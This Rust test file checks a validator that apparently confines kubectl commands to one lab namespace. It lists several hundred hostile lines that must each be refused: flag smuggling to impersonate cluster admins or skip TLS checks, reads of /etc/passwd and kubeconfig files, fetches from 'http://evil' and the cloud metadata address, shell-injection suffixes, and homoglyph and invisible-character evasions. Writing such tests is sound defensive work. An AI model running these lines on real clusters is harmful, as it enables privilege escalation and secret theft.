//! Lines that try to get out: each is refused, for the reason that it should be.

use std::collections::BTreeSet;

use crate::code;

/// A line, and the code that it must be refused with.
type Attack = (String, &'static str);

/// Flags that would leave the bounds: name, value, code.
const FLAGS: &[(&str, &str, &str)] = &[
    ("kubeconfig", "/etc/kubernetes/admin.conf", "other_cluster"),
    ("server", "https://10.0.0.1:6443", "other_cluster"),
    ("context", "admin", "other_cluster"),
    ("cluster", "prod", "other_cluster"),
    ("token", "abc", "other_identity"),
    ("user", "admin", "other_identity"),
    ("username", "admin", "other_identity"),
    ("password", "x", "other_identity"),
    ("client-key", "/root/key.pem", "other_identity"),
    ("client-certificate", "/root/cert.pem", "other_identity"),
    ("as", "system:admin", "other_identity"),
    ("as-group", "system:masters", "other_identity"),
    ("as-uid", "0", "other_identity"),
    ("as-user-extra", "a=b", "other_identity"),
    ("certificate-authority", "/tmp/ca.pem", "unchecked_tls"),
    ("tls-server-name", "evil", "unchecked_tls"),
    ("insecure-skip-tls-verify", "true", "unchecked_tls"),
    ("all-namespaces", "true", "all_namespaces"),
    ("kustomize", "../../etc", "kustomize"),
    ("raw", "/api/v1/secrets", "raw"),
    ("template", "/etc/passwd", "template_flag"),
    ("cache-dir", "/tmp/x", "logging"),
    ("profile-output", "/tmp/x", "logging"),
    ("log-file", "/tmp/x", "logging"),
    ("kuberc", "/tmp/x", "logging"),
    ("v", "9", "logging"),
];

/// Each flag in every place and disguise.
fn smuggled_flags() -> Vec<Attack> {
    let mut attacks = Vec::new();
    for (name, value, code) in FLAGS {
        let (head, tail) = name.split_at(name.len().div_ceil(2));
        for whole in [
            format!("kubectl get pods --{name}={value}"),
            format!("kubectl get pods --{name} {value}"),
            format!("kubectl --{name}={value} get pods"),
            format!("kubectl --{name} {value} get pods"),
            format!("kubectl -n lab-ada --{name} {value} get pods"),
            format!("kubectl get --{name}={value} pods"),
            format!("kubectl get pods -w --{name}={value}"),
            format!("kubectl get pods -l app=a --{name}={value}"),
            format!("kubectl rollout --{name}={value} status d/x"),
            format!("kubectl exec client --{name}={value} -- env"),
            format!("kubectl get pods '--{name}={value}'"),
            format!("kubectl get pods --{head}\"\"{tail}={value}"),
            format!("kubectl get pods --{head}''{tail} {value}"),
            format!("kubectl get pods \\-\\-\\{name}={value}"),
            format!("kubectl get pods -\"-\"{name}={value}"),
            format!("kubectl get pods --{}={value}", name.replace('-', "_")),
        ] {
            attacks.push((whole, *code));
        }
        let (first, rest) = name.split_at(1);
        attacks.extend([
            (format!("kubectl get pods －－{name}={value}"), "look_alike"),
            (format!("kubectl get pods —{name}={value}"), "look_alike"),
            (format!("kubectl get pods −−{name} {value}"), "look_alike"),
            (format!("kubectl get pods --ѕ{rest}={value}"), "look_alike"),
            (format!("kubectl get pods -–{name}={value}"), "look_alike"),
            (format!("kubectl get pods --{first}\u{200b}{rest}={value}"), "invisible_character"),
            (format!("kubectl get pods \u{202e}--{name}={value}"), "invisible_character"),
            (format!("kubectl get pods ---{name}={value}"), "flag_not_offered"),
            (format!("kubectl get pods --{}={value}", name.to_uppercase()), "flag_not_offered"),
            (format!("kubectl get pods -l --{name}={value}"), "flag_needs_value"),
            (format!("kubectl get pods -- --{name}={value}"), "unexpected_dashes"),
        ]);
    }
    attacks
}

fn with(code: &'static str, lines: &[&str]) -> Vec<Attack> {
    lines.iter().map(|line| ((*line).to_owned(), code)).collect()
}

fn namespaces() -> Vec<Attack> {
    let others =
        ["kube-system", "default", "lab-ad", "lab-adaa", "LAB-ADA", "lab-ada,default", "''", "../lab-ada"];
    let mut attacks = Vec::new();
    for other in others {
        for line in [
            format!("kubectl get pods -n {other}"),
            format!("kubectl -n {other} get pods"),
            format!("kubectl get pods --namespace={other}"),
            format!("kubectl get pods -n lab-ada -n {other}"),
            format!("kubectl -n lab-ada get pods --namespace {other}"),
            format!("kubectl get pods --name\"\"space={other}"),
            format!("kubectl get pods -\"n\" {other}"),
        ] {
            attacks.push((line, "other_namespace"));
        }
    }
    attacks.extend(with(
        "other_namespace",
        &[
            "kubectl get pods -nkube-system",
            "kubectl get pods -n=kube-system",
            "kubectl get pods -wnkube-system",
            "kubectl get pods -wn kube-system",
            "kubectl get pods -namespace=kube-system",
            "kubectl exec -n kube-system client -- env",
            "kubectl get pods -n=",
            "kubectl get pods --namespace=",
            "kubectl -n= get pods",
            "kubectl get pods -nlab-adа",
        ],
    ));
    attacks.extend(with(
        "all_namespaces",
        &[
            "kubectl get pods -A",
            "kubectl get pods -wA",
            "kubectl get pods -Aw",
            "kubectl get pods -A=true",
            "kubectl -A get pods",
            "kubectl get pods -hA",
            "kubectl get pods '-A'",
            "kubectl get pods \\-A",
            "kubectl get pods --all_namespaces",
            "kubectl delete pods --all -A",
            "kubectl events -wA",
        ],
    ));
    attacks
}

fn files() -> Vec<Attack> {
    let mut attacks = Vec::new();
    for path in
        ["/etc/passwd", "../../x.yaml", "pod.yaml", ".", "-,/etc/passwd", "--", "-f", "~/.kube/config", "-x"]
    {
        let dashed = path.starts_with('-') && !path.contains(',');
        let next = if path.starts_with('-') { "flag_needs_value" } else { "file" };
        attacks.extend([
            (format!("kubectl apply -f {path}"), next),
            (format!("kubectl apply --filename {path}"), next),
            (format!("kubectl apply -f={path}"), "file"),
            (format!("kubectl apply --filename={path}"), "file"),
            (format!("kubectl apply -f - --filename={path}"), "file"),
        ]);
        if !dashed {
            attacks.push((format!("kubectl delete -f{path}"), "file"));
        }
    }
    for url in ["http://evil/x.yaml", "https://169.254.169.254/latest", "file:///etc/passwd", "HTTPS://evil"]
    {
        attacks.extend([
            (format!("kubectl apply -f {url}"), "address"),
            (format!("kubectl create -f={url}"), "address"),
            (format!("kubectl replace --filename={url} --force"), "address"),
        ]);
    }
    for format in
        ["go-template-file", "jsonpath-file", "custom-columns-file", "templatefile", "JSONPATH-FILE"]
    {
        attacks.extend([
            (format!("kubectl get pods -o {format}=/etc/passwd"), "template_file"),
            (format!("kubectl get pods -o{format}=/etc/passwd"), "template_file"),
            (format!("kubectl get pods -wo={format}=/etc/passwd"), "template_file"),
            (format!("kubectl get pods --output={format} x"), "template_file"),
        ]);
    }
    attacks.extend(with(
        "file_flag",
        &[
            "kubectl create configmap c --from-file=/etc/passwd",
            "kubectl create configmap c --from-env-file /etc/environment",
            "kubectl create cm c --from_file=.",
            "kubectl patch svc x --patch-file /etc/passwd",
            "kubectl apply -R -f -",
            "kubectl apply -f - --recursive",
            "kubectl exec -f /etc/passwd -- env",
            "kubectl apply -f - --prune --all",
            "kubectl -f /etc/passwd apply",
            "kubectl run x --image=y -f /etc/passwd",
            "kubectl create -f - --windows-line-endings",
        ],
    ));
    attacks.extend(with("kustomize", &["kubectl apply -k .", "kubectl get -k/etc", "kubectl get -wk ."]));
    attacks
}

fn terminals() -> Vec<Attack> {
    with(
        "terminal",
        &[
            "kubectl exec -it client -- sh",
            "kubectl exec -i client -- sh",
            "kubectl exec -t client -- sh",
            "kubectl exec -qit client -- sh",
            "kubectl exec --stdin --tty client -- sh",
            "kubectl exec --stdin=true client -- sh",
            "kubectl exec client -ti -- sh",
            "kubectl run x --image=y -it -- sh",
            "kubectl run x --image=y --attach",
            "kubectl run x --image=y --rm",
            "kubectl run x --image=y --leave_stdin_open",
            "kubectl delete pod a -i",
            "kubectl delete pod a --interactive",
            "kubectl get pods -test.v",
        ],
    )
}

fn shells() -> Vec<Attack> {
    let mut attacks = Vec::new();
    for base in ["kubectl get pods", "curl http://web", "help", "kubectl patch svc x -p '{\"a|b\":\"$c;\"}'"]
    {
        for (injected, code) in [
            (" | sh", "pipe"),
            ("|sh", "pipe"),
            (" |& sh", "pipe"),
            ("; id", "sequence"),
            (" && id", "sequence"),
            (" || id", "sequence"),
            (" & id", "background"),
            (" > /tmp/x", "redirection"),
            (" >> /tmp/x", "redirection"),
            (" 2>&1", "redirection"),
            (" < /etc/passwd", "redirection"),
            (" <<< x", "redirection"),
            (" <(id)", "redirection"),
            (" $(id)", "substitution"),
            (" `id`", "substitution"),
            (" \"`id`\"", "substitution"),
            (" \"a$(id)b\"", "substitution"),
            (" $HOME", "variable"),
            (" ${IFS}id", "variable"),
            (" \"$HOME\"", "variable"),
            (" 'a'$HOME'b'", "variable"),
            (" \\\\$HOME", "variable"),
            (" \"\\\\$HOME\"", "variable"),
            (" $'\\x41'", "variable"),
            (" (id)", "subshell"),
            (" # x", "comment"),
            (" '", "unclosed_quote"),
            (" \"", "unclosed_quote"),
            (" \\", "unclosed_quote"),
            ("\nid", "several_lines"),
            ("\r\nid", "several_lines"),
            ("\u{2028}id", "several_lines"),
            ("\0", "control_character"),
            ("\u{1b}[2J", "control_character"),
            ("\u{1b}]0;x\u{7}", "control_character"),
            ("\u{9b}31m", "control_character"),
            ("\u{7f}", "control_character"),
            ("\u{b}id", "control_character"),
            (" \u{202e}sdop", "invisible_character"),
            (" \u{2066}x\u{2069}", "invisible_character"),
            (" \u{feff}", "invisible_character"),
            ("\u{3000}-A", "invisible_character"),
            ("\u{ad}x", "invisible_character"),
            (" \u{e0041}", "invisible_character"),
            (" ’x’", "look_alike"),
        ] {
            attacks.push((format!("{base}{injected}"), code));
        }
    }
    attacks
}

fn programs() -> Vec<Attack> {
    let names = [
        "ls",
        "bash",
        "sh -c id",
        "docker ps",
        "helm list",
        "./kubectl get pods",
        "/usr/bin/kubectl get pods",
        "../kubectl get pods",
        "KUBECTL get pods",
        "kubectl.exe get pods",
        "kubectl-evil",
        "env kubectl get pods",
        "sudo kubectl get pods",
        "A=b kubectl get pods",
        "'kubectl get pods'",
        "-",
        "--help",
        "''",
        "eval kubectl",
        "exec kubectl",
        ". /etc/profile",
        "!!",
        "~/kubectl",
        "curl.exe",
        "busybox nslookup x",
        "*",
    ];
    let mut attacks = with("unknown_program", &names);
    attacks.extend(with(
        "look_alike",
        &[
            "кubectl get pods",
            "kubеctl get pods",
            "ｋｕｂｅｃｔｌ get pods",
            "kubectl gеt pods",
            "kubectl ｇｅｔ pods",
            "ćurl x",
        ],
    ));
    attacks
}

fn verbs() -> Vec<Attack> {
    let mut attacks = Vec::new();
    for verb in [
        "port-forward svc/a 80",
        "proxy",
        "cp a:/x /y",
        "debug a",
        "edit svc a",
        "attach a",
        "config view",
        "plugin list",
        "certificate approve x",
        "drain n",
        "cordon n",
        "uncordon n",
        "taint n a=b",
        "completion bash",
        "alpha",
        "kustomize .",
        "diff -f -",
        "cluster-info dump",
        "top pods",
        "autoscale d/x",
        "help get",
        "options",
        "kuberc view",
    ] {
        attacks.push((format!("kubectl {verb}"), "verb_not_offered"));
        attacks.push((format!("kubectl -n lab-ada {verb}"), "verb_not_offered"));
    }
    attacks.extend(with(
        "verb_not_offered",
        &["kubectl con\"fi\"g view", "kubectl 'edit' svc a", "kubectl p\\roxy"],
    ));
    attacks.extend(with(
        "unknown_verb",
        &[
            "kubectl evil",
            "kubectl GET pods",
            "kubectl 'get pods'",
            "kubectl ../x",
            "kubectl ''",
            "kubectl get_pods",
        ],
    ));
    attacks
}

/// What stands after a verb, or beside it.
fn arguments() -> Vec<Attack> {
    let mut attacks = Vec::new();
    attacks.extend(with(
        "unknown_subverb",
        &[
            "kubectl create secret generic x",
            "kubectl create token default",
            "kubectl create role x",
            "kubectl create clusterrolebinding x",
            "kubectl create evil",
            "kubectl auth reconcile -f -",
            "kubectl set serviceaccount d/x y",
            "kubectl set subject x",
            "kubectl create service externalname x",
        ],
    ));
    attacks.extend(with(
        "unexpected_argument",
        &[
            "kubectl apply edit-last-applied pod/x",
            "kubectl apply -f - set-last-applied",
            "kubectl create -f - token",
            "kubectl replace -f - x",
            "clear -x",
            "history 5",
            "kubectl version evil",
        ],
    ));
    attacks
        .extend(with("stdin_argument", &["kubectl set env d/x -", "kubectl get -", "kubectl label pod '-'"]));
    attacks.extend(with("editor", &["kubectl create -f - --edit", "kubectl create -f - --edit=true"]));
    attacks.extend(with(
        "overrides",
        &["kubectl run x --image=y --overrides={}", "kubectl run x --image=y --override_type=json"],
    ));
    attacks
}

fn huge() -> Vec<Attack> {
    let many = |part: &str| part.repeat(4096);
    vec![
        (many("x") + "x", "line_too_long"),
        (format!("kubectl {}", many("-")), "line_too_long"),
        (format!("kubectl get {}", many("a ")), "line_too_long"),
        (many("'"), "unknown_program"),
        (many("\""), "unknown_program"),
        (many("\\"), "unknown_program"),
        (many(" "), "empty"),
        (many("🎉"), "line_too_long"),
        (format!("kubectl get pods -{}", "w".repeat(4000) + "A"), "all_namespaces"),
        (format!("kubectl get pods {}--raw=/", "-w ".repeat(1300)), "raw"),
        (format!("kubectl patch svc x -p {}$a", "'$'".repeat(1300)), "variable"),
    ]
}

fn all() -> Vec<Attack> {
    [smuggled_flags(), namespaces(), files(), terminals(), shells(), programs(), verbs(), arguments(), huge()]
        .concat()
}

#[test]
fn none_of_them_escapes() {
    let attacks = all();
    let wrong: Vec<String> = attacks
        .iter()
        .filter(|(line, expected)| code(line) != *expected)
        .map(|(line, expected)| format!("{line:?}: {}, not {expected}", code(line)))
        .collect();
    assert!(wrong.is_empty(), "{} of {}:\n{}", wrong.len(), attacks.len(), wrong.join("\n"));
}

#[test]
fn there_are_more_than_three_hundred_of_them() {
    let lines: BTreeSet<String> = all().into_iter().map(|(line, _)| line).collect();
    assert!(lines.len() > 300, "{}", lines.len());
    println!("{} lines", lines.len());
}
